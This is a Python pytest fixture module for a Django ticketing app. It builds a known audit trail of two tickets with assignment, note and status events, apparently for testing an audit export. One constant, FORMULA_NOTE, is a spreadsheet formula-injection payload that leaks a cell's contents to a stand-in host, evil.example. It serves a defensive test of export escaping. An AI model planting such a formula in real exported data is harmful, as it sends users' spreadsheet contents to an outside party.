"""A known audit trail: two tickets made through real ingest, actions through the services."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

import pytest
from django.utils import timezone

from mentiondesk.accounts import services as account_services
from mentiondesk.accounts.models import User
from mentiondesk.actions import tickets as ticket_actions
from mentiondesk.channels.models import Handle
from mentiondesk.tickets import services
from mentiondesk.tickets.models import Ticket, TicketEvent
from tests.conftest import PASSWORD
from tests.factories import remote_post, tickets_from

# A note a spreadsheet would run as a formula if the export let it through.
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass(frozen=True)
class Trail:
    maya: Ticket  # created, assigned (ana), note (ana), status_changed (ana)
    omar: Ticket  # created ... then, after `middle`, assigned to ana by lee
    middle: datetime  # between the two batches of events

    def events(self) -> list[TicketEvent]:
        return list(TicketEvent.objects.order_by("created_at", "id"))


@pytest.fixture
def handle(db: None) -> Handle:
    return Handle.objects.create(username="Driftwood", remote_id="100", role="main")


@pytest.fixture
def admin(db: None) -> User:
    return account_services.user_create(username="ada", role=User.Role.ADMIN, password=PASSWORD)


@pytest.fixture
def trail(handle: Handle, advocate: User, lead: User) -> Trail:
    maya, omar = tickets_from(
        handle,
        remote_post(author="maya", text="@Driftwood login loops"),
        remote_post(author="omar", text="@Driftwood 502 on push", minutes=5),
    )
    services.ticket_assign(ticket=maya, assignee=advocate, by=advocate)
    services.ticket_note_add(ticket=maya, by=advocate, text=FORMULA_NOTE)
    ticket_actions.ticket_status_set(ticket=maya, status=Ticket.Status.SOLVED, by=advocate)
    middle = timezone.now()
    services.ticket_assign(ticket=omar, assignee=advocate, by=lead)
    return Trail(maya=maya, omar=omar, middle=middle)
